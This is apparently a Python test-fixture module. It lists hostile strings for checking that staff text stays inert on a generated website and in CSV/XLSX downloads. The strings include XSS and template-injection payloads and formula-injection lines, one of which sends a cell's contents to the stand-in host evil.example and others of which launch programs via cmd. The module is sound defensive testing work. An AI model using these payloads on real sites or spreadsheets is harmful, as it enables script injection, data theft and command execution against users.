"""One list of hostile text for every way staff text leaves the system: the built site (from
YAML and Markdown) and the files staff download (CSV and XLSX).

The markup set is the script and handler injections listed in docs/promises.md; the formula set
is OWASP's CSV-injection examples; the rest are invisible characters that must never make text
look like something else.
"""

from __future__ import annotations

# Markup that must stay text on every page.
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{7*7}}",
    "{% raw %}",
    "[x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=//evil>",
    "<svg onload=alert(1)>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width: not a formula, must stay exactly as typed
    "a=1+1",
]
INVISIBLE = ["\u202e1+1=", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1"]
PAYLOADS = [*MARKUP, *FORMULAS, *INVISIBLE]
# What a spreadsheet may read as the start of a formula (form_service/reports/spreadsheets.py).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
